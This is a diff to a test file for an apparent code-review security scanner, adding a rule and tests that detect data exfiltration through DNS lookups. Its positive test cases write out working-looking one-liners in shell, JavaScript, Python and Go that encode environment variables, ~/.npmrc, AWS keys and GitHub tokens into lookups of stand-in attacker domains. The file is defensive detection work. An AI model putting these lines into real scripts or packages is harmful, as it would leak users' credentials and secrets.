@@ -411,7 +411,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting'];
+    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -1911,5 +1911,23 @@ describe('pr-claim-mismatch: a docs generator under a docs claim (2026-11-29)', 
     expect(mismatch('docs: tidy the browser support page', 'packages/ui/scripts/release.ts', 'publish(packages);\n', ['documentation/docs/misc/browser-support.md'])).toEqual(['packages/ui/scripts/release.ts']);
     expect(mismatch('docs: tidy the browser support page', 'packages/ui/src/support.ts', generator, ['documentation/docs/misc/browser-support.md'])).toEqual(['packages/ui/src/support.ts']);
     expect(mismatch('docs: tidy the browser support page', 'packages/ui/scripts/generate-browser-support.ts', generator, ['documentation/docs/misc/other.md'])).toEqual(['packages/ui/scripts/generate-browser-support.ts']);
+  });
+});
+
+describe('dns-exfiltration: data written into the name a DNS lookup asks for', () => {
+  const dns = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dns-exfiltration');
+  it('reads shell scripts, JavaScript, Python and Go, with the data on the line or a few lines above in the hunk', () => {
+    expect(dns('scripts/postinstall.sh', ['for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net" >/dev/null; done'])?.severity).toBe('critical');
+    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
+    expect(dns('tools/beacon.sh', ['ping -c 1 "$(whoami).$(hostname).cb.oast-relay.net" >/dev/null'])?.severity).toBe('high');
+    expect(dns('src/telemetry.js', ["const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);", '', 'dns.resolve(`${data}.t.cdn-metrics.net`, () => {});'])).toMatchObject({ severity: 'critical', line: 13, title: 'Data is sent out in a DNS lookup of *.t.cdn-metrics.net' });
+    expect(dns('pkg/_ping.py', ['d = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")', 'socket.gethostbyname(f"{d}.x.ns-check.net")'])?.severity).toBe('critical');
+    expect(dns('internal/t.go', ['\tnet.LookupHost(hex.EncodeToString([]byte(os.Getenv("GITHUB_TOKEN"))) + ".x.dnslog.dev")'])?.severity).toBe('critical');
+  });
+  it('is quiet on lookups of names built from ordinary values, random names, local and example domains', () => {
+    expect(dns('scripts/check-dns.sh', ['dig +short "${SERVICE}.svc.cluster.local"', 'dig +short "_acme-challenge.$DOMAIN" TXT @"$NS"', 'host "$(git rev-parse --short HEAD).preview.acme.dev"', 'ping -c1 "$(hostname).corp.acme.com"', 'echo "resolving $(whoami).example.dev"'])).toBeUndefined();
+    expect(dns('test/dns.test.js', ["const name = `${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`;", "await assert.rejects(dns.promises.resolve4(`${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`));"])).toBeUndefined();
+    expect(dns('src/discovery.ts', ['const name = process.env.SERVICE_NAME;', 'dns.lookup(`${name}.svc.acme.io`, cb);'])).toBeUndefined();
+    expect(dns('app/storage.py', ['host = socket.gethostbyname(f"{bucket}.s3.amazonaws.com")', 'token = base64.b64encode(key)'])).toBeUndefined();
   });
 });
